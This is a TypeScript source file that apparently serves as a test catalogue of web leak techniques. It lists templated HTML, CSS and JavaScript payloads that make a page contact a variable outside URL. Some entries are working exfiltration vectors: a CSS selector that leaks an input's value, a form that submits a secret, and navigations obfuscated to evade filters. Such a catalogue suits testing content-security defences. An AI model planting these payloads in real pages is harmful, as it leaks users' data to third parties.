/** Leaks by media, styles, navigation and frames. */
import { element, head, markup, script, style, type Technique } from "./leak-technique";

export const MEDIA: Technique[] = [
  markup("img", (to) => `<img src="${to.url}/i.png">`),
  script("Image()", (to) => `new Image().src = "${to.url}/i.png"`),
  markup("img srcset", (to) => `<img srcset="${to.url}/i.png 1x">`),
  markup("picture source", (to) => `<picture><source srcset="${to.url}/i.png"><img></picture>`),
  markup("input image", (to) => `<input type="image" src="${to.url}/i.png">`),
  markup("video", (to) => `<video src="${to.url}/v.mp4" preload="auto"></video>`),
  markup("video poster", (to) => `<video poster="${to.url}/v.png"></video>`),
  markup("audio", (to) => `<audio src="${to.url}/a.mp3" preload="auto"></audio>`),
  markup("source in audio", (to) => `<audio preload="auto"><source src="${to.url}/a.mp3"></audio>`),
  markup(
    "track",
    (to) =>
      `<video src="data:video/mp4,"><track default kind="captions" src="${to.url}/t.vtt"></video><script nonce>document.querySelector("track").track.mode = "showing"</script>`,
    { noControl: "same origin only" },
  ),
  markup("body background", (to) => `<table background="${to.url}/b.png"><tr><td>x</td></tr></table>`),
  markup("svg image", (to) => `<svg><image href="${to.url}/i.png" width="5" height="5"/></svg>`),
  markup(
    "svg feImage",
    (to) =>
      `<svg><filter id="f"><feImage href="${to.url}/i.png"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>`,
  ),
  markup("svg use", (to) => `<svg><use href="${to.url}/u.svg#a"/></svg>`, { noControl: "same origin only" }),
  markup(
    "svg animated href",
    (to) => `<svg><image width="5" height="5"><set attributeName="href" to="${to.url}/a.png"/></image></svg>`,
  ),
  markup(
    "innerHTML",
    (to) => `<div id="d"></div><script nonce>d.innerHTML = '<img src="${to.url}/i.png">'</script>`,
  ),
  script(
    "attribution source",
    (to) =>
      `const i = new Image(); i.setAttribute("attributionsrc", "${to.url}/a"); i.src = "data:,"; document.body.append(i)`,
    { noControl: "gone" },
  ),
  script(
    "object",
    (to) => `document.body.insertAdjacentHTML("beforeend", '<object data="${to.url}/o"></object>')`,
  ),
  script("embed", (to) => `document.body.insertAdjacentHTML("beforeend", '<embed src="${to.url}/e">')`),
];

export const STYLES: Technique[] = [
  script("link stylesheet", element("link", `{ rel: "stylesheet", href: URL + "/c.css" }`)),
  style("@import", (to) => `@import "${to.url}/c.css";`),
  style("background", (to) => `#x{background:url(${to.url}/b.png)}`),
  style("content", (to) => `#x::before{content:url(${to.url}/c.png)}`),
  style("list-style", (to) => `#x{display:list-item;list-style-image:url(${to.url}/l.png)}`),
  style("border-image", (to) => `#x{border:5px solid;border-image:url(${to.url}/b.png) 5}`),
  style("mask", (to) => `#x{mask-image:url(${to.url}/m.png)}`),
  style("shape-outside", (to) => `#x{float:left;shape-outside:url(${to.url}/s.png)}`),
  style("image-set", (to) => `#x{background-image:image-set("${to.url}/s.png" 1x)}`),
  style("font-face", (to) => `@font-face{font-family:F;src:url(${to.url}/f.woff)}#x{font-family:F}`),
  style("filter", (to) => `#x{filter:url(${to.url}/f.svg#a)}`, undefined, { noControl: "same origin only" }),
  style(
    "selector that reads an attribute",
    (to) => `input[value^="s"]{background:url(${to.url}/s)}`,
    `<input value="secret">`,
  ),
  script(
    "constructed style sheet",
    (to) =>
      `const s = new CSSStyleSheet(); s.replaceSync("body{background:url(${to.url}/s.png)}"); document.adoptedStyleSheets = [s]`,
    { alone: true },
  ),
  script("style property", (to) => `document.body.style.backgroundImage = "url(${to.url}/s.png)"`),
  script("cursor", (to) => `document.documentElement.style.cursor = "url(${to.url}/c.cur), auto"`, {
    press: "body",
  }),
];

const LEAVING: Technique[] = [
  script("location.href", (to) => `setTimeout(() => { location.href = "${to.url}/n?secret" })`),
  script("location.replace", (to) => `setTimeout(() => location.replace("${to.url}/n"))`),
  script(
    "location by another name",
    (to) => `const l = window["loca" + "tion"]; setTimeout(() => { l["hr" + "ef"] = "${to.url}/n" })`,
  ),
  script("navigation.navigate", (to) => `setTimeout(() => navigation.navigate("${to.url}/n"))`),
  script("window.open", (to) => `window["op" + "en"]("${to.url}/n")`, { press: "body" }),
  script("window.open _self", (to) => `setTimeout(() => open("${to.url}/n", "_self"))`),
  markup(
    "window.open on a press",
    (to) => `<button id="b">b</button><script nonce>b.onclick = () => window.open("${to.url}/n")</script>`,
    { press: "#b" },
  ),
  markup("link on a press", (to) => `<a id="a" href="${to.url}/n">a</a>`, { press: "#a" }),
  markup("link to a new tab", (to) => `<a id="a" target="_blank" href="${to.url}/n">a</a>`, { press: "#a" }),
  markup("ping of a link", (to) => `<a id="a" href="#x" ping="${to.url}/p">a</a>`, { press: "#a" }),
  markup(
    "link in SVG",
    (to) =>
      `<svg width="50" height="50"><a id="a" href="${to.url}/n"><rect width="50" height="50"/></a></svg>`,
    { press: "#a" },
  ),
  markup(
    "area",
    (to) =>
      `<img usemap="#m" width="40" height="40" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area id="a" shape="default" href="${to.url}/n"></map><script nonce>setTimeout(() => HTMLElement.prototype.click.call(a))</script>`,
  ),
  markup("download link", (to) => `<a id="a" download href="${to.url}/d">a</a>`, { press: "#a" }),
  markup(
    "form GET",
    (to) =>
      `<form id="f" action="${to.url}/n"><input name="q" value="secret"></form><script nonce>setTimeout(() => f.submit())</script>`,
  ),
  markup(
    "form POST",
    (to) =>
      `<form id="f" method="post" action="${to.url}/n"><input name="q"></form><script nonce>setTimeout(() => f.submit())</script>`,
  ),
  markup(
    "form to a new tab",
    (to) => `<form target="_blank" action="${to.url}/n"><button id="b">b</button></form>`,
    { press: "#b" },
  ),
  markup("formaction", (to) => `<form><button id="b" formaction="${to.url}/n">b</button></form>`, {
    press: "#b",
  }),
  head("meta refresh", (to) => `<meta http-equiv="refresh" content="0;url=${to.url}/n">`),
  script(
    "meta refresh by script",
    (to) =>
      `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${to.url}/n"; document.head.append(m)`,
    { alone: true },
  ),
  script("top navigation", (to) => `setTimeout(() => { top.location.href = "${to.url}/n" })`),
  script("parent navigation", (to) => `setTimeout(() => parent.location.replace("${to.url}/n"))`),
  markup("link to the top", (to) => `<a id="a" target="_top" href="${to.url}/n">a</a>`, { press: "#a" }),
  markup("javascript: link", (to) => `<a id="a" href="javascript:location='${to.url}/n'">a</a>`, {
    press: "#a",
  }),
];

export const FRAMES: Technique[] = [
  markup("iframe", (to) => `<iframe src="${to.url}/f"></iframe>`),
  markup("iframe srcdoc with a picture", (to) => `<iframe srcdoc="<img src='${to.url}/i.png'>"></iframe>`),
  markup(
    "iframe blob with a script",
    (to) =>
      `<iframe id="f"></iframe><script nonce>f.src = URL.createObjectURL(new Blob(["<img src='${to.url}/i.png'>"], { type: "text/html" }))</script>`,
  ),
  markup("iframe data", (to) => `<iframe src="data:text/html,<img src='${to.url}/i.png'>"></iframe>`),
  markup("iframe javascript", (to) => `<iframe src="javascript:'<img src=${to.url}/i.png>'"></iframe>`),
  markup(
    "frame of a child without a policy",
    (to) =>
      `<iframe id="f"></iframe><script nonce>f.contentDocument?.body?.insertAdjacentHTML("beforeend", "<img src='${to.url}/i.png'>")</script>`,
  ),
  markup(
    "fenced frame",
    (to) =>
      `<fencedframe id="f"></fencedframe><script nonce>f.config = new FencedFrameConfig("${to.url}/f")</script>`,
    { noControl: "needs https" },
  ),
  markup("portal", (to) => `<portal src="${to.url}/f"></portal>`, { noControl: "gone" }),
  markup(
    "frame navigated by a link",
    (to) => `<iframe name="n"></iframe><a id="a" target="n" href="${to.url}/f">a</a>`,
    { press: "#a" },
  ),
];

export const NAVIGATION = LEAVING.map((technique) => ({ ...technique, alone: true }));
